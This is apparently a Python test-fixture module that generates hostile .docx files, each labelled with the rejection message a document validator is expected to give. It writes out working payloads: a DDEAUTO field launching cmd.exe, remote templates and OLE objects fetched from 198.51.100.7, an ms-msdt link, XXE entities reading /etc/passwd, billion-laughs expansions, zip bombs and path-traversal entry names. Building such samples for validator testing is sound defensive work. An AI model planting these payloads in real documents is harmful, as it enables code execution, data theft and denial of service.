"""Hostile Word documents, each made by code, and a table of them all with what the candidate is
told.
"""

import io
import struct
import warnings
import zipfile
from collections.abc import Mapping
from types import MappingProxyType

import papers
from tricks import CARRIES, DAMAGED, Maker, zipped

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TABLE = 'Target="../embeddings/t.xlsx"'
RELS = "word/_rels/document.xml.rels"
BODY = papers.DOCUMENT.partition("<w:body>")


def docx(
    parts: Mapping[str, str | bytes] = MappingProxyType({}),
    *,
    body: str | None = None,
    types: str = "",
) -> bytes:
    document = (
        papers.DOCUMENT if body is None else BODY[0] + f"<w:body>{body}</w:body></w:document>"
    )
    return papers.docx(
        document=document, types=papers.TYPES.replace("</Types>", types + "</Types>"), more=parts
    )


def related(kind: str, target: str, mode: str = "External", place: str = RELS) -> Maker:
    return lambda: docx({place: rels(relation(kind, target, f' TargetMode="{mode}"'))})


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def rels(*rows: str) -> str:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{"".join(rows)}</Relationships>'


def with_chart(table: str, **more: str | bytes) -> bytes:
    """A chart that shows what it was drawn with, and names the table behind it."""
    types = (
        '<Override PartName="/word/charts/chart1.xml"'
        ' ContentType="application/vnd.openxmlformats-officedocument.'
    )
    types += 'drawingml.chart+xml"/>'
    chart = (
        '<c:chartSpace xmlns:c="c" xmlns:r="r"><c:v>7</c:v><c:externalData r:id="r1"><c:autoUpdate'
        ' c:val="0"/>'
    )
    parts: dict[str, str | bytes] = {
        "word/charts/chart1.xml": chart + "</c:externalData></c:chartSpace>",
        "word/charts/_rels/chart1.xml.rels": rels(
            f'<Relationship Id="r1" Type="{OFFICE}/package" {table}/>'
        ),
    }
    if table == TABLE:
        types += '<Override PartName="/word/embeddings/t.xlsx" ContentType="x/y"/>'
        parts["word/embeddings/t.xlsx"] = zipped({"xl/workbook.xml": "<workbook/>"})
    return docx(parts | more, types=types)


def run(inner: str) -> str:
    return f"<w:p><w:r>{inner}</w:r></w:p>"


def field_in_pieces(*pieces: str) -> Maker:
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    words = "".join(f"</w:r><w:r><w:instrText>{piece}</w:instrText>" for piece in pieces)
    return lambda: docx(body=run(begin + words + end))


def with_part(name: str, content: bytes | str) -> Maker:
    return lambda: docx({name: content})


def stored(first: bytes | str) -> bytes:
    """An archive whose first part can be read in it as it is."""
    return zipped({"a.xml": first}, method=zipfile.ZIP_STORED)


def declared(text: str) -> str:
    return papers.DOCUMENT.replace("?>", "?>" + text, 1)


def renamed_entry(old: bytes, new: bytes) -> Maker:
    """A part whose name is changed afterwards, to what no library would write. Both must be of one
    length.
    """
    return lambda: docx({old.decode(): "x"}).replace(old, new)


def twice(first: str, second: str) -> Maker:
    def make() -> bytes:
        file = io.BytesIO(docx({first: "<a/>"}))
        with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(file, "a") as package:
            package.writestr(zipfile.ZipInfo(second), "<b/>")
        return file.getvalue()

    return make


def overlapping() -> bytes:
    """Many names for the same packed bytes, so that little becomes a lot."""
    data = bytearray(docx({"word/media/a.bmp": b"\0" * 900_000}))
    end = data.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, end + 16)[0]
    row_at = data.rindex(b"PK\x01\x02", 0, end)
    row = bytes(data[row_at:end])
    names = [b"%c.bmp" % letter for letter in range(ord("b"), ord("z"))]
    rows = b"".join(row.replace(b"a.bmp", name) for name in names)
    data[end:end] = rows
    count = struct.unpack_from("<H", data, end + len(rows) + 10)[0] + len(names)
    struct.pack_into("<HHI", data, end + len(rows) + 8, count, count, end + len(rows) - start)
    return bytes(data)


def between_parts() -> bytes:
    """Bytes that no part owns, before the list of parts."""
    data = bytearray(docx())
    end = data.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, end + 16)[0]
    data[start:start] = b"<hidden>" * 9
    struct.pack_into("<I", data, end + 72 + 16, start + 72)
    return bytes(data)


def lying_size() -> bytes:
    """A part that says it is small and unpacks to a lot."""
    data, size = (
        bytearray(docx({"word/media/a.bmp": b"\0" * 5_000_000})),
        struct.pack("<I", 5_000_000),
    )
    while (place := data.find(size)) >= 0:
        data[place : place + 4] = struct.pack("<I", 500)
    return bytes(data)


LAUGHS = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
EXPANDS = f'<!DOCTYPE d [<!ENTITY a "ha">{LAUGHS}]>'
FETCHES = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
OUTSIDE = '<!DOCTYPE d SYSTEM "http://198.51.100.7/d.dtd">'
MACRO, DOCTYPE, ELSEWHERE = (
    "contains macros",
    "holds a document type",
    "fetches something from elsewhere",
)
RUNS, NO_WORD = "something that runs or is another file", "not a Word document inside"
ODD, UNPACKED = "packed in an unusual way", "too large when unpacked"
WORD = "vnd.openxmlformats-officedocument.wordprocessingml.document"
WHOLE = {"[Content_Types].xml": papers.TYPES, "word/document.xml": papers.DOCUMENT}
VBA = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'

DOCXS: dict[str, tuple[Maker, str]] = {
    "macros (a .docm by another name)": (
        lambda: papers.docx(types=papers.TYPES.replace(WORD, "vnd.ms-word.document.macroEnabled")), MACRO),
    "macros spelt with references": (lambda: docx(types=VBA.replace("vbaP", "&#118;baP")), MACRO),
    "the file of macros": (with_part("word/vbaProject.bin", b"\xd0\xcf"), MACRO),
    "macros by their relation": (related("vbaProject", "x.xml", "Internal"), MACRO),
    "a template elsewhere": (
        related("attachedTemplate", "http://198.51.100.7/t.dotm", place="word/_rels/settings.xml.rels"), "template"),
    "a template on a share": (related("attachedTemplate", "file://198.51.100.7/t.dotm"), "template"),
    "a template on a share of Windows": (related("attachedTemplate", "\\\\198.51.100.7\\t.dotm"), "template"),
    "a template on a share, behind slashes": (related("attachedTemplate", "file:////server/t.dotm"), "template"),
    "a template on a share, in escapes": (related("attachedTemplate", "file:///%5C%5C198.51.100.7/t.dotm"), "template"),
    "a template by a program": (related("attachedTemplate", "ms-word:ofe|u|http://198.51.100.7/t.dotm"), "template"),
    "a picture on a share": (related("image", "file://198.51.100.7/p.png"), ELSEWHERE),
    "a picture on a share of Windows": (related("image", "\\\\198.51.100.7\\p.png"), ELSEWHERE),
    "an old drawing's picture on a share": (
        lambda: docx(body=run('<v:imagedata xmlns:v="v" src="//h/p.png"/>')), ELSEWHERE),
    "a film from the web": (
        lambda: docx(body=run('<x:webVideoPr xmlns:x="x" embeddedHtml="&lt;iframe src=&quot;http://h&quot;&gt;"/>')),
        "plays a film"),
    "a picture elsewhere, said to be inside": (related("image", "http://198.51.100.7/p.png", "Internal"), ELSEWHERE),
    "a style sheet elsewhere": (related("styles", "//198.51.100.7/s.xml"), ELSEWHERE),
    "an object of another program": (related("oleObject", "embeddings/x.bin", "Internal"), CARRIES),
    "an object elsewhere": (related("oleObject", "http://198.51.100.7/x.hta!"), CARRIES),
    "a table of another program": (related("package", "embeddings/x.xlsx", "Internal"), CARRIES),
    "a file that becomes text": (related("aFChunk", "x.html", "Internal"), CARRIES),
    "a file that becomes text, by its element": (lambda: docx(body='<w:altChunk xmlns:r="r" r:id="r1"/>'), RUNS),
    "an ActiveX control": (related("control", "activeX/activeX1.xml", "Internal"), "control that runs"),
    "a document in parts": (related("subDocument", "x.docx", "Internal"), "several files"),
    "a frame": (related("frame", "http://198.51.100.7"), "several files"),
    "data for a letter": (related("mailMergeSource", "file:///c:/people.csv"), "data from another file"),
    "a link that is a script": (related("hyperlink", "javascript:x"), "not on the web"),
    "a link to a file": (related("hyperlink", "file:///c:/windows/x.exe"), "not on the web"),
    "a link to a share": (related("hyperlink", "\\\\198.51.100.7\\x"), "not on the web"),
    "a link that starts a program": (related("hyperlink", "ms-msdt:/id x"), "not on the web"),
    "a field that runs a program": (field_in_pieces('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "field"),
    "a field in pieces": (field_in_pieces("DD", "EAU", "TO x"), "field"),
    "a field in quotes and small letters": (field_in_pieces(' "dde" x'), "field"),
    "a field in one word": (lambda: docx(body='<w:p><w:fldSimple w:instr=" DDE x"/></w:p>'), "field"),
    "a field that fetches a picture of a share": (field_in_pieces('INCLUDEPICTURE "\\\\\\\\h\\\\p.png"'), "field"),
    "a field that fetches text": (field_in_pieces("INCLUDETEXT file:///etc/passwd"), "field"),
    "a field without a beginning": (lambda: docx(body=run("<w:instrText>DDEAUTO x</w:instrText>")), "field"),
    "a field that links to a file": (field_in_pieces('HYPERLINK "file://198.51.100.7/x"'), "not on the web"),
    "a field that links to a share": (field_in_pieces(' HYPERLINK "\\\\198.51.100.7\\x" '), "not on the web"),
    "a field that links to a search": (field_in_pieces("HYPER", "LINK search-ms:query=x"), "not on the web"),
    "a field that links, behind a tip": (
        field_in_pieces('hyperlink \\o "my page" \\n "file:///c:/x.exe" \\l "top"'), "not on the web"),
    "a field that links, in one word": (
        lambda: docx(body='<w:p><w:fldSimple w:instr="HYPERLINK file://h/x"/></w:p>'), "not on the web"),
    "a chart whose table is on a share": (
        lambda: with_chart('Target="file://198.51.100.7/t.xlsx" TargetMode="External"'), ELSEWHERE),
    "a chart's table that a page names, too": (
        lambda: with_chart(TABLE, **{RELS: rels(relation("package", "embeddings/t.xlsx", ""))}), CARRIES),
    "a list of parts that names another beginning": (
        lambda: papers.docx(more={"_rels/.rels": rels(relation("officeDocument", "word/evil.xml", ""))}), NO_WORD),
    "an add-in from the web": (related("webextensiontaskpanes", "webextensions/t.xml", "Internal"), "add-in"),
    "an add-in of its own": (related("webextension", "webextension1.xml", "Internal"), "add-in"),
    "a field in a header": (
        with_part("word/header1.xml", BODY[0] + run("<w:instrText>DDE x</w:instrText>") + "</w:document>"), "field"),
    "an entity that reads a file": (lambda: papers.docx(document=declared(FETCHES)), DOCTYPE),
    "an entity from elsewhere": (lambda: papers.docx(document=declared(OUTSIDE)), DOCTYPE),
    "a billion laughs": (lambda: papers.docx(document=declared(EXPANDS)), DOCTYPE),
    "a billion laughs in another part": (with_part("docProps/core.xml", EXPANDS + "<d/>"), DOCTYPE),
    "a billion laughs in the types": (lambda: papers.docx(types=papers.TYPES.replace("?>", "?>" + EXPANDS)), DOCTYPE),
    "a billion laughs in UTF-16": (
        lambda: papers.docx(document=declared(EXPANDS).replace("UTF-8", "UTF-16").encode("utf-16")), DOCTYPE),
    "a style sheet that is run": (
        with_part("customXml/item1.xml", '<?xml-stylesheet href="x.xsl"?><a/>'), "looks from elsewhere"),
    "a drawing with a script": (with_part("word/media/a.svg", "<svg><script>x</script></svg>"), RUNS),
    "a drawing with a page": (with_part("word/media/a.svg", "<svg><foreignObject/></svg>"), RUNS),
    "an element 100,000 deep": (lambda: docx(body="<w:p>" * 100_000 + "</w:p>" * 100_000), "nested too deeply"),
    "a part of 31 MB": (lambda: docx({"word/big.xml": b" " * 31_457_281}), UNPACKED),
    "a picture of 190 MB": (lambda: docx({"word/media/a.bmp": b"\0" * 190_000_000}), UNPACKED),
    "forty pictures of 8 MB": (lambda: docx({f"word/media/{n}.bmp": b"\0" * 8_000_000 for n in range(40)}), UNPACKED),
    "6,000 parts": (lambda: docx({f"word/media/{n}.png": b"" for n in range(6_000)}), UNPACKED),
    "parts over each other": (overlapping, ODD),
    "a part that lies about its size": (lying_size, DAMAGED),
    "bytes between the parts": (between_parts, ODD),
    "an archive inside": (with_part("word/x.zip", zipped({"a": "b"})), CARRIES),
    "an archive that is called a picture": (with_part("word/media/a.png", zipped({"a": "b"})), CARRIES),
    "an archive behind a picture": (
        with_part("word/media/a.png", b"\x89PNG" + b"\0" * 99 + zipped({"a": "b"})), CARRIES),
    "a program inside": (with_part("word/x.exe", b"MZ"), CARRIES),
    "a program that is called a picture": (with_part("word/media/a.png", b"MZ" + b"\0" * 99), CARRIES),
    "a page inside": (with_part("word/x.html", "<script>"), CARRIES),
    "a document inside": (lambda: docx({"word/x.docx": papers.docx()}), CARRIES),
    "a name that leads out": (with_part("../../evil.xml", "<a/>"), ODD),
    "a name that leads to the root": (with_part("/etc/evil.xml", "<a/>"), ODD),
    "a name that leads out on Windows": (with_part("..\\evil.xml", "<a/>"), ODD),
    "a name with a drive": (with_part("c:evil.xml", "<a/>"), ODD),
    "a name with an end in the middle": (renamed_entry(b"word/abc.xml", b"word/a\0c.xml"), ODD),
    "a name with a new line": (renamed_entry(b"word/abc.xml", b"word/a\nc.xml"), ODD),
    "two parts of one name": (twice("word/a.xml", "word/a.xml"), "the same part twice"),
    "two parts that differ in capitals": (twice("word/a.xml", "WORD/A.xml"), "the same part twice"),
    "a comment behind the archive": (lambda: zipped(WHOLE, b"and a word"), ODD),
    "a page before it": (lambda: b"<html>" + docx(), "web page"),
    "a page in its first part": (lambda: stored("<html><script>x</script></html>"), "an archive (.zip)"),
    "a PDF in its first part": (lambda: stored(b"%PDF-1.7\n"), "an archive (.zip)"),
    "an unusual packing": (lambda: zipped(WHOLE, method=zipfile.ZIP_LZMA), ODD),
    "an old Word document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 999, "an old Word document (.doc)"),
    "an old Word document with a password": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        "protected with a password"),
    "a spreadsheet": (lambda: papers.docx(types=papers.TYPES.replace("wordprocessingml", "spreadsheetml")), NO_WORD),
    "an archive of something": (lambda: zipped({"photo.jpg": b"\xff\xd8"}), "an archive (.zip)"),
}  # fmt: skip
